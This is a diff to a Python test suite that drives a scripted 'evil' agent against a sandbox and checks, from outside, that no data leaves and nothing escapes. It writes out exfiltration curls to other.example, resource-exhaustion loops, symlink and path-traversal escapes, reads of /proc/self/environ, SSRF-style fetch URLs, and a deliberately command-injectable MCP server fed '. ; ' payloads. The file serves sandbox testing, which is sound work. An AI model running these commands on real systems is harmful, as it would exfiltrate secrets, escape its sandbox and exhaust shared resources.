@@ -1,6 +1,10 @@
 # SPDX-License-Identifier: Apache-2.0
 """A model that takes the worst legal step each turn, by scripts from a grammar; judged from outside: by what servers and
-name servers were asked, by files, by processes.  With one wall removed the judge must find something.
+name servers were asked, by files, by processes, and by the log, which has an outcome for each call.  With one wall removed
+the judge must find something.
+
+A step is a command (send, write, meddle, outlive, exhaust), through shell, bash, python or the argument of an MCP server's
+tool; or it is a call of edit or fetch.
 
 THOLE_EVIL: how many scripts (default 6); THOLE_EVIL_SEED: where they begin."""
 
@@ -18,6 +22,35 @@ import house
 
 ALLOWED = "good.example"
 CANARY = "canary-5f2d9c71e0b84a36"
+
+
+# An MCP server of the session whose author pastes what he is given into a command.
+HAND = """
+import json, subprocess, sys
+TOOL = {"name": "show", "description": "Shows a file.", "inputSchema": {
+    "type": "object", "properties": {"name": {"type": "string"}}, "required": ["name"]}}
+def show(m):
+    with open("/tmp/shown", "w+b") as said:
+        subprocess.run("ls -d " + m["params"]["arguments"]["name"], shell=True, stdout=said, stderr=said)
+        said.seek(0)
+        return {"content": [{"type": "text", "text": said.read(1 << 20).decode(errors="replace")}]}
+ways = {"initialize": lambda m: {"protocolVersion": "2025-06-18", "capabilities": {"tools": {}}, "serverInfo": {"name": "hand", "version": "1"}},
+        "tools/list": lambda m: {"tools": [TOOL]}, "tools/call": show}
+for line in sys.stdin:
+    m = json.loads(line)
+    if "id" in m and "method" in m:
+        does = ways.get(m["method"])
+        says = {"result": does(m)} if does else {"error": {"code": -32601, "message": "Method not found"}}
+        print(json.dumps(dict(says, jsonrpc="2.0", id=m["id"])), flush=True)
+"""
+
+# How a command is run; each is a call.
+THROUGH = {
+    "shell": lambda c: {"command": c},
+    "bash": lambda c: {"command": c},
+    "python": lambda c: {"code": "import subprocess\nsubprocess.run(['bash', '-c', %r])" % c},
+    "hand_show": lambda c: {"name": ". ; " + c},
+}
 
 
 def send(data):
@@ -71,11 +104,56 @@ def outlive(mark):
     yield "(trap '' TERM HUP INT; sleep %s) & disown" % mark
 
 
+def exhaust(mark):
+    """Ways to take more than one's part, each with an end of its own."""
+    yield "for i in $(seq 400); do sleep %s & done 2> /dev/null; echo begun" % mark
+    yield "python3 -c \"import threading, time; [threading.Thread(target=time.sleep, args=(2,), daemon=True).start() for _ in range(400)]\""
+    yield "python3 -c \"import os; held = [os.open('/dev/null', 0) for _ in range(200000)]\""
+    yield "python3 -c \"held = [bytes(1 << 20) for _ in range(64)]; print(len(held))\""
+    yield "head -c 20000000 /dev/zero | tr '\\0' x; head -c 20000000 /dev/urandom >&2"
+    yield "head -c 64M /dev/zero > /tmp/full; head -c 64M /dev/zero > full; rm -f /tmp/full full"
+    yield "mkdir -p many; (cd many; seq 2000 | xargs touch); d=.; for i in $(seq 200); do d=$d/deep; done; mkdir -p $d"
+    yield "for i in $(seq 100); do curl -sS -m 3 http://other.example/leak & done; wait"
+
+
+def edit(folder, outside):
+    """Ways to read and write outside through the tool `edit`."""
+    for path in ("%s/evil" % outside, "/etc/evil", "../evil", "/proc/1/root%s/evil" % outside, "/proc/self/cwd/../evil", "/tmp/../..%s/evil" % outside):
+        yield [("edit", {"command": "create", "path": path, "file_text": "x"})]
+    for link in (outside, "%s/evil" % outside, "/proc/self/root%s" % outside):
+        yield [("shell", {"command": "rm -rf way; ln -sfn %s way" % link}), ("edit", {"command": "create", "path": "way/evil", "file_text": "x"}),
+               ("edit", {"command": "create", "path": "way", "file_text": "x"})]
+    canary = "%s/canary" % folder
+    yield [("edit", {"command": "view", "path": canary}), ("edit", {"command": "str_replace", "path": canary, "old_str": CANARY, "new_str": "x"}),
+           ("edit", {"command": "insert", "path": canary, "insert_line": 0, "insert_text": "x"})]
+    yield [("shell", {"command": "ln -sfn %s seen" % canary}), ("edit", {"command": "view", "path": "seen"})]
+    yield [("shell", {"command": "ln -f %s hard; mkfifo pipe" % canary}), ("edit", {"command": "view", "path": "hard"}), ("edit", {"command": "view", "path": "pipe"})]
+    yield [("edit", {"command": "view", "path": "%s/state/thole" % folder}), ("edit", {"command": "view", "path": "/proc/self/environ"})]
+
+
+def fetch(folder):
+    """Ways to get data out, or in, through the tool `fetch`."""
+    for to in ("http://other.example/?leak", "http://%s/?leak" % internet.OTHER, "http://%s/" % internet.METADATA, "http://%s/" % internet.PRIVATE,
+               "http://inside.example/", "http://nat64.example/", "http://mapped.example/", "http://[::ffff:%s]/" % internet.OTHER, "http://0x5db8d823/",
+               "http://good.example@other.example/", "http://good.example.other.example/", "http://good.example/to/other.example/leak",
+               "http://good.example:81/", "http://127.0.0.1:3128/", "file://%s/canary" % folder, "http://good.example\r\nHost: other.example/"):
+        yield [("fetch", {"url": to})]
+
+
+def through(rng, command):
+    tool = rng.choice(sorted(THROUGH))
+    return [(tool, THROUGH[tool](command))]
+
+
 class Evil(house.House):
     def setUp(self):
         super().setUp()
         self.server, self.names = internet.Server(), internet.Names()
-        (self.folder / "config" / "thole" / "config.yaml").write_text("executor_linger_s: 20\ntools: [shell, bash, write_file]\n")
+        (self.folder / "config" / "thole" / "config.yaml").write_text("executor_linger_s: 20\n")
+        self.agent = self.folder / "evil.yaml"
+        self.agent.write_text(json.dumps({
+            "name": "evil", "model": "human/human", "tools": ["shell", "bash", "edit", "python", "fetch"], "limits": {"command_seconds": 20},
+            "mcp_servers": [{"name": "hand", "command": ["python3", "-c", HAND]}]}))
         (self.folder / "canary").write_text(CANARY)
         self.outside = self.folder / "outside"
         self.outside.mkdir()
@@ -88,12 +166,19 @@ class Evil(house.House):
         self.names.end()
 
     def script(self, rng, steps=4):
-        ways = [list(send("cat /etc/hostname %s/canary" % self.folder)), list(write(self.outside)), list(meddle(self.folder)), list(outlive(self.mark))]
-        return [rng.choice(rng.choices(ways, weights=(5, 2, 2, 1))[0]) for _ in range(steps)]
+        """A list of calls."""
+        commands = [list(send("cat /etc/hostname %s/canary" % self.folder)), list(write(self.outside)), list(meddle(self.folder)),
+                    list(outlive(self.mark)), list(exhaust(self.mark))]
+        calls = [list(edit(self.folder, self.outside)), list(fetch(self.folder))]
+        ways = [[through(rng, c) for c in kind] for kind in commands] + calls
+        return [call for _ in range(steps) for call in rng.choice(rng.choices(ways, weights=(5, 2, 2, 1, 1, 2, 2))[0])]
 
-    def play(self, name, script, *options):
-        lines = ["shell " + json.dumps({"command": c}) for c in script] + ["done evil"]
-        self.good("run", "-m", "human/human", "-s", name, *options, "go", stdin="\n".join(lines) + "\n")
+    def play(self, name, calls, *options):
+        lines = ["%s %s" % (tool, json.dumps(arguments)) for tool, arguments in calls] + ["done evil"]
+        self.good("run", "-a", self.agent, "-s", name, *options, "go", stdin="\n".join(lines) + "\n", timeout=len(calls) * 20 + house.SECONDS)
+        said = self.outputs(name)
+        self.assertEqual(len(said), len(calls), "each call has its outcome")
+        self.assertFalse([o for o in said if "there is no tool named" in str(o)])
         self.good("computer", "-s", name, "end")
 
     def judge(self, outputs=()):
@@ -121,28 +206,36 @@ class Evil(house.House):
             with self.subTest(seed=i):
                 self.play("e%d" % i, script, "--net", ALLOWED)
                 self.wait_for(lambda: not [v for v in self.judge() if v.startswith("outlived")], 10)
-                self.assertEqual(self.judge(self.outputs("e%d" % i)), [], "\n".join(script))
+                self.assertEqual(self.judge(self.outputs("e%d" % i)), [], "\n".join(map(str, script)))
         self.assertEqual(self.good("log", "--verify").code, 0)
 
     def test_each_way_once(self):
-        """All ways of the grammar, a few per command."""
-        ways = [*send("cat %s/canary" % self.folder), *write(self.outside), *meddle(self.folder), *outlive(self.mark)]
+        """All ways of the grammar, a few per command; each tool has its part of every kind."""
+        ways = [*send("cat %s/canary" % self.folder), *write(self.outside), *meddle(self.folder), *outlive(self.mark), *exhaust(self.mark)]
         pieces = [" ; ".join("( %s ) 2>&1" % w for w in ways[i::12]) for i in range(12)]
-        self.play("all", pieces, "--net", ALLOWED)
-        self.wait_for(lambda: not [v for v in self.judge() if v.startswith("outlived")], 10)
-        self.assertEqual(self.judge(self.outputs("all")), [])
-        self.good("log", "--verify", "all")
+        # The first piece of a tool stops its parent, which may be the server that is to answer all that comes after it.
+        scripts = {tool: [(tool, arguments(p)) for p in reversed(pieces[i::len(THROUGH)])] for i, (tool, arguments) in enumerate(THROUGH.items())}
+        scripts["others"] = [call for way in (*edit(self.folder, self.outside), *fetch(self.folder)) for call in way]
+        for name, calls in scripts.items():
+            with self.subTest(name=name):
+                self.play(name, calls, "--net", ALLOWED)
+                self.wait_for(lambda: not [v for v in self.judge() if v.startswith("outlived")], 10)
+                self.assertEqual(self.judge(self.outputs(name)), [])
+                self.good("log", "--verify", name)
 
     def test_without_the_egress_the_judge_finds_it(self):
-        self.play("c", ["curl -sS --noproxy '*' http://other.example/leak", "getent hosts leak.good.example"], "--net", "host")
+        self.play("c", [(t, a("curl -sS --noproxy '*' http://other.example/%s; getent hosts %s.good.example" % (t, t))) for t, a in THROUGH.items()], "--net", "host")
         found = self.judge()
-        self.assertIn("asked /leak of %s" % internet.OTHER, found)
+        for tool in THROUGH:
+            self.assertIn("asked /%s of %s" % (tool, internet.OTHER), found)
         self.assertIn("asked the name server", found)
 
     def test_without_the_sandbox_the_judge_finds_it(self):
-        self.play("c", ["echo x > %s/evil" % self.outside], "--sandbox", "off")
-        self.assertIn("wrote %s" % (self.outside / "evil"), self.judge())
-        (self.outside / "evil").unlink()
+        for tool, arguments in THROUGH.items():
+            with self.subTest(tool=tool):
+                self.play("c" + tool, [(tool, arguments("echo x > %s/evil" % self.outside))], "--sandbox", "off")
+                self.assertIn("wrote %s" % (self.outside / "evil"), self.judge())
+                (self.outside / "evil").unlink()
 
 
 if __name__ == "__main__":
